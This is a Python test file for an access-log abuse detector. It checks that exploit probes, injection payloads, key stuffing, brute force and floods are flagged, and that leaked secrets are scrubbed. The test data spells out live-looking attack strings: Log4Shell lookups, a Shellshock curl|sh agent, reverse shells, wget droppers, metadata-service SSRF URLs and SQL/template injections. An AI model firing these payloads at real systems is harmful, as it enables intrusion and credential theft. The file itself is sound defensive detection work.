"""Attacks that got through the access-log detectors (issue "Attacks that get through today"): one
request for a published exploit, payloads in any logged field, evasive spellings, IPv6 /64 stuffing,
oversized lines, and what leaves a detector (scrubbed). Each test fails without its fix."""

from __future__ import annotations

from importlib import resources
from urllib.parse import quote

import orjson
import pytest

from aup.detectors.logs.analyzer import ReadResult, read_lines
from aup.detectors.logs.signatures import DECODE_ROUNDS, EXPLOIT, PAYLOAD, PROBE, forms, signatures
from aup.domain.models import Finding, hash_source, source_scope
from aup.domain.redact import scrub_text
from aup.policy import load_policy
from aup.usecases.replay import replay
from tests.unit.logs import traffic as T

POLICY = load_policy("")
pytestmark = pytest.mark.time_machine(T.AT, tick=False)
ACCOUNT = "acct-probe01"
T0 = int(T.AT.timestamp() * 1000) - 3_600_000


def findings(lines: list[T.Line]) -> list[Finding]:
    return replay([x.text for x in lines], POLICY, plans={ACCOUNT: "standard"})


def rules(lines: list[T.Line]) -> set[str]:
    return {f.rule_id for f in findings(lines)}


def one(**kw: object) -> list[T.Line]:
    kw.setdefault("status", 404)
    return [T.line(T0, account=ACCOUNT, **kw)]  # type: ignore[arg-type]


def cve_uris() -> list[str]:
    text = resources.files("aup.detectors.logs").joinpath("patterns", "trendy_cves_uris.json").read_text()
    return [str(orjson.loads(ln)["uri"]) for ln in text.splitlines() if ln.strip()]


# --- 6. one request can be enough -------------------------------------------------------------


def test_one_jndi_request_is_a_signature_finding() -> None:
    path = "/search?q=" + quote("${jndi:ldap://203.0.113.5:1389/Exploit}")
    assert "D1-exploit-signature" in rules(one(path=path))
    assert POLICY.rules["D1-exploit-signature"].basis == "signature"


@pytest.mark.parametrize("uri", cve_uris())
def test_every_cve_probe_uri_is_caught_in_one_request(uri: str) -> None:
    path = uri if uri.startswith("/") else "/" + uri
    assert rules(one(path=path)) & {"D1-exploit-probe", "D1-attack-payload", "D1-exploit-signature"}


@pytest.mark.parametrize(
    "path",
    [
        "/c99.php",
        "/uploads/shell.php?cmd=id",
        "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php",
        # what honeypots see most: routers' and appliances' published exploits (GPON, FortiOS, Cisco
        # ASA, OFBiz, Druid, MobileIron, Liferay, Webmin, vCenter, a camera's log page)
        "/GponForm/diag_Form?images/",
        "/api/v2/cmdb/system/admin/admin",
        "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua",
        "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
        "/druid/indexer/v1/sampler?for=connect",
        "/mifs/.;/services/LogService",
        "/api/jsonws/invoke",
        "/password_change.cgi",
        "/ui/vropspluginui/rest/services/uploadova",
        "/cgi-bin/ViewLog.asp",
    ],
)
def test_one_request_for_a_web_shell_or_a_published_exploit_path_is_a_probe(path: str) -> None:
    assert "D1-exploit-probe" in rules(one(path=path))


def test_a_probe_alone_strikes_by_policy() -> None:
    rule = POLICY.rules["D1-exploit-probe"]
    assert rule.basis != "signature" and rule.severity == "medium"


# --- 7. every logged field --------------------------------------------------------------------


@pytest.mark.parametrize(
    "field, value, rule",
    [
        ("agent", "() { :; }; /bin/bash -c 'curl -s 203.0.113.5/x|sh'", "D1-exploit-signature"),
        ("agent", "${jndi:ldap://203.0.113.5/a}", "D1-exploit-signature"),
        ("agent", "${${lower:j}ndi:${lower:l}dap://x/a}", "D1-exploit-signature"),
        ("agent", "<script>alert(1)</script>", "D1-attack-payload"),
        ("forwarded", "${jndi:dns://203.0.113.5/a}", "D1-exploit-signature"),
        ("forwarded", "1.2.3.4' OR '1'='1", "D1-attack-payload"),
        ("claimed", "${jndi:rmi://203.0.113.5/a}", "D1-exploit-signature"),
    ],
)
def test_payloads_in_any_field(field: str, value: str, rule: str) -> None:
    assert rule in rules(one(path="/items/1", status=200, **{field: value}))


# --- 8. spellings -----------------------------------------------------------------------------

SPELLINGS = [
    "/items?id=" + quote("1 union/**/select username,password from users"),
    "/items?id=" + quote("1 UnIoN/**/SeLeCt 1,2"),
    "/items?id=" + quote("1 AND 1=1"),
    "/items?id=1+AND+1=2",
    "/items?id=" + quote("' OR '1'='1"),
    "/items?id=" + quote("1;select pg_sleep(10)"),
    "/items?id=" + quote("1 and sleep(5)"),
    "/items?id=" + quote("1 and benchmark(5000000,md5(1))"),
    "/items?id=" + quote("1; waitfor delay '0:0:5'"),
    "/items?next=%0d%0aSet-Cookie:x=1",
    "/files/..%c0%af..%c0%af..%c0%afetc/passwd",
    "/static/..;/..;/WEB-INF/web.xml",
    "/img/..%252f..%252fetc%252fpasswd",
    "/a/%25252e%25252e%25252fetc%25252fpasswd",
    "/q?x=" + quote("<details open ontoggle=alert(1)>"),
    "/q?x=" + quote('" autofocus onfocus=alert(1) x="'),
    # server-side request forgery at a cloud's metadata service, in the spellings that slip past filters
    "/v1/fetch?url=" + quote("http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    "/v1/hooks?target=http://169.254.169.254/",
    "/v1/img?src=" + quote("http://metadata.google.internal/computeMetadata/v1/instance/"),
    "/v1/img?src=" + quote("http://2852039166/"),
    "/v1/img?src=" + quote("http://0xa9fea9fe/"),
    "/v1/img?src=" + quote("http://[::ffff:169.254.169.254]/"),
    "/v1/img?src=" + quote("http://[fd00:ec2::254]/"),
    "/v1/img?src=" + quote("http://100.100.100.200/latest/meta-data/"),
    # command injection after an address, a substitution or a backquote; reverse shells
    "/v1/ping?host=" + quote("127.0.0.1;id"),
    "/v1/ping?host=" + quote("$(whoami)"),
    "/v1/ping?host=" + quote("x|uname -a"),
    "/v1/ping?host=" + quote("x && whoami"),
    "/v1/ping?host=" + quote("8.8.8.8;sleep 10"),
    "/v1/ping?host=" + quote("x|ping -c 10 127.0.0.1"),
    "/v1/ping?host=" + quote("`id`"),
    "/v1/ping?host=" + quote("1.1.1.1|nc -e /bin/sh 10.0.0.1 4444"),
    "/v1/ping?host=" + quote("x;bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    # template injection: the engines' arithmetic probe, the dunder walk
    "/v1/render?name=" + quote("{{7*7}}"),
    "/v1/render?name=" + quote("{{7*'7'}}"),
    "/v1/render?name=" + quote("${7*7}"),
    "/v1/render?name=" + quote("#{7*7}"),
    "/v1/render?name=" + quote("<%= 7*7 %>"),
    "/v1/render?name=" + quote("{{''.__class__.__mro__[1].__subclasses__()}}"),
    # PHP, Windows files, OGNL, prototype pollution, NoSQL operators on a password
    "/v1/x?q=" + quote(";phpinfo();"),
    "/v1/x?f=" + quote("C:\\windows\\win.ini"),
    "/v1/x?q=" + quote("%{(#a=1)}"),
    "/v1/x?__proto__[admin]=1",
    "/v1/x?constructor[prototype][admin]=1",
    "/v1/login?username=admin&password[$ne]=x",
    # botnets' droppers: a download run by the shell, the step into /tmp; PHP-CGI's argument injection
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.4/x.sh;sh+x.sh",
    "/v1/x?cmd=" + quote("$(curl http://dl.example.net/a|sh)"),
    "/v1/x?cmd=" + quote(";wget http://192.0.2.4/m -O /tmp/m"),
    "/v1/x?host=" + quote("x`tftp -g 192.0.2.4`"),
    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
    "/index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp%3a//input",
]


@pytest.mark.parametrize("path", SPELLINGS)
def test_evasive_spellings_are_payloads(path: str) -> None:
    assert "D1-attack-payload" in rules(one(path=path))


HONEST = [
    "/search?q=rock+and+roll",
    "/search?q=" + quote("tom & jerry's 2=2 episode"),
    "/items?sort=name&order=asc&page=2",
    "/docs/select-a-plan",
    "/search?q=" + quote("sleep (study)"),
    "/files/report%202024.pdf",
    "/users/o'brien",
    "/api/v1/widgets/42/union-members",
    "/v1/items?id=2852039166",  # the metadata address as one number, but no URL's host
    "/v1/hosts?ip=169.254.1.7",  # another link-local address
    "/v1/hosts?ip=10.169.254.169",
    "/v1/releases/latest/api/tokens",
    # shell and template look-alikes: pipe-separated lists, jQuery, placeholders, Strapi's filters
    "/v1/items?fields=" + quote("name|id") + "&sort=" + quote("price|desc"),
    "/v1/items?fields=" + quote("ip;hostname"),
    "/v1/search?q=" + quote("$(document).ready"),
    "/v1/search?q=" + quote("whoami song"),
    "/v1/mail/preview?body=" + quote("Hello {{ first_name }}, your total is {{ total }}"),
    "/v1/render?name=" + quote("${name}"),
    "/v1/calc?expr=" + quote("7*7"),
    "/v1/search?q=" + quote("how to use __class__ in python"),
    "/v1/articles?filters[title][$ne]=draft&filters[price][$gt]=10",
    "/v1/search?q=" + quote("c:\\users\\me\\docs"),
    # shell commands as a docs site's readers search for them, with no separator before them
    "/v1/search?q=" + quote("curl https://example.com/install.sh | sh"),
    "/v1/search?q=" + quote("wget 10.0.0.5 timeout"),
    "/v1/files?name=" + quote("cd tmp"),
    "/v1/settings?php_flags=" + quote("display_errors"),
]


@pytest.mark.parametrize("path", HONEST)
def test_honest_lookalikes_are_not_payloads(path: str) -> None:
    assert not signatures().path(path).flags & (PAYLOAD | EXPLOIT | PROBE)
    assert rules(one(path=path, status=200)) == set()


def test_browser_agents_are_not_payloads() -> None:
    for agent in (T.CHROME, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Safari/604.1"):
        assert signatures().field(agent) == 0


def test_decoding_is_repeated_but_bounded() -> None:
    deep = "%2e%2e"
    for _ in range(DECODE_ROUNDS + 2):
        deep = quote(deep, safe="")
    assert forms("%252e%252e")[1] == ".."
    assert ".." not in forms(deep)[1]  # beyond the bound: left encoded (its raw form still matches)
    assert signatures().path("/a/" + deep + "/b").flags & PAYLOAD


# --- 9. key stuffing spread over one IPv6 /64 -----------------------------------------------------


def test_source_scope_is_the_ipv6_64_and_the_ipv4_address() -> None:
    assert (
        source_scope("2a02:1234:77:1::5") == source_scope("2A02:1234:77:1:ffff::9") == "2a02:1234:77:1::/64"
    )
    assert source_scope("2a02:1234:77:2::5") != source_scope("2a02:1234:77:1::5")
    assert source_scope("203.0.113.7") == "203.0.113.7" != source_scope("203.0.113.8")
    assert source_scope("not an address") == "not an address"
    assert hash_source("2a02:1234:77:1::5") == hash_source("2a02:1234:77:1:abcd::1")


def test_key_stuffing_from_every_address_of_one_64_is_one_source() -> None:
    lines = [
        T.line(T0 + i * 3000, ip=f"2a02:1234:77:1:{i:x}::{i + 1:x}", path="/me", status=403,
               account=f"unknown-key:{i:08x}ab12", agent="python-requests/2.31.0")
        for i in range(60)
    ]  # fmt: skip
    found = [f for f in findings(lines) if f.rule_id == "D2-key-stuffing"]
    assert found and {f.source_ip_hash for f in found} == {hash_source("2a02:1234:77:1::99")}


# --- 10. oversized lines ------------------------------------------------------------------------


@pytest.mark.parametrize("pad_before", [False, True])
def test_a_padded_agent_does_not_hide_a_scanner(pad_before: bool) -> None:
    pad = "A" * 40_000
    agent = (
        (pad + " sqlmap/1.7.2#stable") if pad_before else ("sqlmap/1.7.2#stable (http://sqlmap.org) " + pad)
    )
    lines = [T.line(T0 + i * 1000, account=ACCOUNT, agent=agent, path=f"/items/{i}") for i in range(3)]
    stats = ReadResult()
    found = {
        f.rule_id for f in replay([x.text for x in lines], POLICY, plans={ACCOUNT: "standard"}, stats=stats)
    }
    assert "D1-scanner-agent" in found
    assert stats.oversized == 3 and stats.unparseable == 0


def test_a_padded_path_does_not_hide_a_jndi_payload() -> None:
    path = "/x?q=" + "a" * 30_000 + quote("${jndi:ldap://203.0.113.5/a}")
    assert "D1-exploit-signature" in rules(one(path=path))


def test_an_oversized_line_that_is_not_json_is_counted_and_skipped() -> None:
    read = read_lines(["{" + "x" * 20_000], POLICY.log_analysis)
    assert (len(read.records), read.oversized) == (0, 1) and read.sample is not None


# --- 13. what leaves a detector is scrubbed -------------------------------------------------------

PLANTED = {
    "aup_Zx9kQ2mN7pL4vR8sT1wY6uB3cD5eF0gH2jK4",  # another account's API key
    "whsec_9f8e7d6c5b4a3f2e1d0c",  # a webhook secret
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",  # an AWS secret access key
    "AKIAIOSFODNN7EXAMPLE",
    "DE89370400440532013000",  # an IBAN (valid mod-97)
    "+44 20 7946 0958",  # a phone number
    "4111111111111111",
    "bob@example.com",
}


def _planted_leaks(text: str) -> set[str]:
    return {p for p in PLANTED if p in text or p.replace(" ", "") in text.replace(" ", "")}


def test_sample_paths_are_scrubbed() -> None:
    paths = [
        "/.env?api_key=aup_Zx9kQ2mN7pL4vR8sT1wY6uB3cD5eF0gH2jK4",
        "/backup.sql?webhook_secret=whsec_9f8e7d6c5b4a3f2e1d0c",
        "/.git/config?u=bob@example.com&t=+44%2020%207946%200958",
        "/aup_Zx9kQ2mN7pL4vR8sT1wY6uB3cD5eF0gH2jK4/.env",
    ]
    lines = [T.line(T0 + i * 1000, account=ACCOUNT, path=p, status=404) for i, p in enumerate(paths * 2)]
    found = findings(lines)
    samples = [s for f in found for s in f.evidence.get("sample_paths", [])]
    assert samples, "the sensitive-path finding keeps samples"
    assert not _planted_leaks(" ".join(samples)), samples


def test_the_unparseable_sample_is_scrubbed() -> None:
    bad = (
        '{"broken": "x-api-key: aup_Zx9kQ2mN7pL4vR8sT1wY6uB3cD5eF0gH2jK4 AKIAIOSFODNN7EXAMPLE '
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY DE89 3704 0044 0532 0130 00 +44 20 7946 0958"
    )
    read = read_lines([bad], POLICY.log_analysis)
    assert read.sample is not None and read.unparseable == 1
    assert not _planted_leaks(read.sample), read.sample


def test_the_scrubber_keeps_ordinary_values() -> None:
    text = (
        "logs:h:498921 3f786850e387550fdab836ed7e6dc881de23001b 2026-12-01T10:41:38Z 1796118082000 /items/42"
    )
    assert scrub_text(text) == text


# --- 12. brute force as it really looks ---------------------------------------------------------


def test_three_dozen_refused_logins_in_minutes_are_brute_force() -> None:
    lines = [
        T.line(
            T0 + i * 6000,
            account=ACCOUNT,
            method="POST",
            path="/login",
            status=401,
            agent="python-requests/2.31",
        )
        for i in range(36)
    ]
    assert "D2-login-brute-force" in rules(lines)


def test_a_person_mistyping_a_password_is_not_brute_force() -> None:
    lines = [
        T.line(T0 + i * 20_000, account=ACCOUNT, method="POST", path="/auth/login", status=401)
        for i in range(5)
    ] + [T.line(T0 + 120_000, account=ACCOUNT, method="POST", path="/auth/login", status=200)]
    assert rules(lines) == set()


def test_refusals_off_login_routes_are_not_logins() -> None:
    lines = [T.line(T0 + i * 6000, account=ACCOUNT, path=f"/orders/{i}", status=403) for i in range(36)]
    assert "D2-login-brute-force" not in rules(lines)


# --- 11. floods with browser agents -------------------------------------------------------------


def _browser_flood(ratio: float, minutes: int = 10, seed: int = 11) -> list[T.Line]:
    import random

    rng = random.Random(seed)
    rate = POLICY.plan("free").requests_per_second * ratio
    out, t = [], float(T0)
    while t < T0 + minutes * 60_000:
        t += rng.expovariate(rate / 1000)  # jittered: exponential gaps (cv 1), no machine regularity
        out.append(T.line(int(t), account=ACCOUNT, path=f"/items/{rng.randrange(10_000)}", agent=T.CHROME))
    return out


def test_a_browser_flood_far_beyond_the_plan_is_enforced() -> None:
    found = [
        f
        for f in replay([x.text for x in _browser_flood(2.8)], POLICY, plans={ACCOUNT: "free"})
        if f.rule_id == "D5a-request-flood"
    ]
    bar = POLICY.rules["D5a-request-flood"].confidence_bar
    assert found and all(f.confidence >= bar for f in found if f.evidence["sustained"])
    assert any(f.evidence["sustained"] for f in found)


def test_a_browser_burst_just_over_the_plan_stays_under_the_bar() -> None:
    found = [
        f
        for f in replay([x.text for x in _browser_flood(1.8)], POLICY, plans={ACCOUNT: "free"})
        if f.rule_id == "D5a-request-flood"
    ]
    bar = POLICY.rules["D5a-request-flood"].confidence_bar
    assert all(f.confidence < bar and not f.evidence["sustained"] for f in found)


# --- 9. slow probing ----------------------------------------------------------------------------

DAY_MS = 86_400_000
SLOW_PATHS = ["/.env", "/.git/config", "/backup.sql", "/config.php.bak", "/.aws/credentials", "/db.sql.gz"]


def _slow_probes(n: int, every_ms: int) -> list[T.Line]:
    start = (T0 // DAY_MS - 1) * DAY_MS  # yesterday, from midnight UTC: one day window whatever T0 is
    return [
        T.line(start + i * every_ms, account=ACCOUNT, path=SLOW_PATHS[i % 6], status=404) for i in range(n)
    ]


def test_probes_spread_over_a_day_are_slow_probing() -> None:
    lines = _slow_probes(12, 7_200_000)  # one every 2 hours: never 3 in an hour
    found = rules(lines)
    assert "D1-slow-probing" in found and "D1-sensitive-path" not in found


def test_a_few_probes_in_a_day_are_not_slow_probing() -> None:
    assert "D1-slow-probing" not in rules(_slow_probes(6, 7_200_000))


def test_the_authorizer_looks_up_the_block_of_the_callers_64() -> None:
    from datetime import timedelta

    from aup.domain.models import SourceBlock
    from aup.usecases.authorize import KeyAuthorizer

    blocked = hash_source("2a02:1234:77:1::5")  # the block the analyzer writes for the stuffer's /64
    block = SourceBlock(source_ip_hash=blocked, until=T.AT + timedelta(hours=1), rule_id="D2-key-stuffing",
                        violation_id="v1")  # fmt: skip
    seen: list[str | None] = []

    def lookup(key_hash: str, source_hash: str | None) -> tuple[None, SourceBlock | None]:
        seen.append(source_hash)
        return None, block if source_hash == blocked else None

    auth = KeyAuthorizer(lookup)
    verdict = auth.decide("aup_unknownkey", "2a02:1234:77:1:dead:beef::1", now=T.AT)
    assert seen == [blocked] and not verdict.allow and "source blocked" in verdict.reason
